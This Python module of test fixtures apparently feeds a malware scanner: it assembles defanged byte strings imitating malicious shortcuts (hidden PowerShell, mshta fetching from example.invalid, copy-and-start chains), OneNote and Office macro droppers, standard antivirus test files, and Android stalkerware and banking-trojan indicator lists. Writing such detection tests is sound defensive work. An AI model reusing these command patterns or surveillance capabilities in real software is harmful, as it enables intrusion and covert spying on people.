"""Fixtures of test files, shortcuts, notes, old Office files and Android parts."""

from __future__ import annotations

import struct
from collections.abc import Iterable

from tests.base.inert import hexed, inert, wide
from tests.base.pe import Section, pe, program

EICAR = inert("X5O!P%@AP[4\\PZX5·4(P^)7CC)7}$EICAR-STAN·DARD-ANTIVIRUS-TEST-FI·LE!$H+H*")
_CLAM_CODE = hexed("50508bf353·5350b02940·300466ac79·f9ba")
_ATTACHED = hexed("e716e3bd65·261145a4c4·8d4d0b7a9e·ac") + bytes(20)
"""GUID and header of an attached file in a OneNote section ([MS-ONESTORE] 2.6.13)."""
_ONENOTE = hexed("e4525c7b8c·d8a74daeb1·5378d02996·d3") + bytes(64)
_OLE = hexed("d0cf11e0a1·b11ae1") + bytes(504)
_LINK = struct.pack("<II", 0x4C, 0x21401) + bytes(68)

SHORTCUTS: dict[str, bytes] = {
    "lnk_powershell": _LINK + wide("power·shell.exe -w hid·den -c harmless"),
    "lnk_remote_script": _LINK + wide("msh·ta.exe htt·p://example.invalid/a"),
    "lnk_command_chain": _LINK + wide("cmd.e·xe /c co·py a %te·mp%\\b && sta·rt %te·mp%\\b"),
    "lnk_padded_arguments": _LINK + wide(" " * 80 + "x"),
    "lnk_oversized": _LINK + bytes(600_000),
    "lnk_carries_program": _LINK + inert("MZ This prog·ram cannot be r·un in DOS mode"),
    "lnk_library_control_panel": _LINK + wide("rundl·l32.exe .\\notes.d·at,Start"),
    "onenote_embedded_program": _ONENOTE + _ATTACHED + b"MZ" + bytes(32),
    "onenote_embedded_script": _ONENOTE + _ATTACHED + inert("@echo o·ff\r\nrem harmless"),
    "onenote_attachment_name": _ONENOTE + _ATTACHED + wide("invoice.h·ta\0"),
}

TEST_FILES: dict[str, bytes] = {
    "eicar_test_file": EICAR + b"\r\n",
    "eicar_test_string": b"the test string is " + EICAR + b", they say",
    "amsi_test_sample": inert("'AMSI Te·st Sample: 7e72·c3ce-861b-4339-8740-0ac1484c1386'"),
    "clamav_test_program": program(_CLAM_CODE),
    "clamav_test_carrier": program(inert("This is a Clam·AV test file with the embe·dded clam.exe")),
    "clamav_test_packed": pe(Section(), timestamp=0x48032939),
    "clamav_test_mew": b"MZ" + bytes(0x102) + inert("ME·W\0\0cl·am.ex") + hexed("e4553854"),
    "clamav_test_upack": b"MZKE" + bytes(60) + hexed("23413abb95·56508f88ff·15cfe69113·2228f0fb0f"),
    "clamav_test_pespin": pe(
        Section(data=hexed("eb2a3a236e·f4db446c95·887601e961·11604fbee1")), new_header=0xC8
    ),
}

OFFICE: dict[str, bytes] = {
    "xls_urlmon_formula": _OLE
    + wide("Work·book")
    + inert("urlm·on URLDown·loadToFileA JJCC·JJ Shell·ExecuteA"),
    "office_macro_runs_itself": _OLE + wide("_VBA_PR·OJECT") + inert("Sub Auto·Open()"),
}


def _dex(strings: Iterable[str]) -> bytes:
    return b"dex\n035\0" + bytes(104) + b"\0".join(inert(text) for text in strings) + b"\0"


def _manifest(strings: Iterable[str]) -> bytes:
    return b"\x03\0\x08\0" + bytes(32) + b"\0\0".join(wide(text) for text in strings)


_PERMISSION = "android.perm·ission."
_WATCH = "Landroid/accessib·ilityservice/Accessi·bilityService;"
_RECORDER = "Landroid/media/MediaRec·order;"

ANDROID: dict[str, bytes] = {
    "stalkerware_permissions": _manifest(
        _PERMISSION + name
        for name in (
            "READ_S·MS",
            "READ_CALL·_LOG",
            "RECORD_AU·DIO",
            "ACCESS_FINE_LOCA·TION",
            "RECEIVE_BOOT_COMPL·ETED",
            "READ_CON·TACTS",
            "BIND_ACCESSIBILITY_SER·VICE",
        )
    ),
    "stalkerware_hides_and_records": _dex(
        (
            "setComponentEnabled·Setting",
            "content://s·ms",
            "content://call·_log",
            _RECORDER,
            "Landroid/location/Location·Manager;",
            _WATCH,
            "android.intent.action.BOOT_COM·PLETED",
        )
    ),
    "stalkerware_reads_messengers": _dex(
        (
            _WATCH,
            "com.what·sapp",
            "org.telegram.mess·enger",
            "com.facebook.or·ca",
            "com.viber.vo·ip",
            "content://s·ms",
            "content://call·_log",
        )
    ),
    "stalkerware_messenger_databases": _dex(
        ("/data/data/com.what·sapp/databases", "/data/data/com.viber.vo·ip", "/system/xb·in/su")
    ),
    "spyware_remote_control": _dex(
        (
            "dispatch·Gesture",
            "Landroid/media/projection/Media·Projection;",
            "performGlobal·Action",
            "content://s·ms",
            "ACTION_ARGUMENT_SET_TEXT_CHAR·SEQUENCE",
            "io/socket/cli·ent",
        )
    ),
    "spyware_call_recorder": _dex(
        (
            "android.intent.action.PHONE·_STATE",
            "android.intent.action.NEW_OUTGOING·_CALL",
            _RECORDER,
            "setComponentEnabled·Setting",
            "multipart/form·-data",
            "Landroid/app/admin/DeviceAdmin·Receiver;",
        )
    ),
    "android_sms_banker": _dex(
        (
            "android.provider.Telephony.SMS_REC·EIVED",
            "abortBroad·cast",
            "canDraw·Overlays",
            "getInstalled·Packages",
            "lock·Now",
            "Landroid/webkit/Web·View;",
        )
    ),
}

FIXTURES: dict[str, bytes] = SHORTCUTS | TEST_FILES | OFFICE | ANDROID
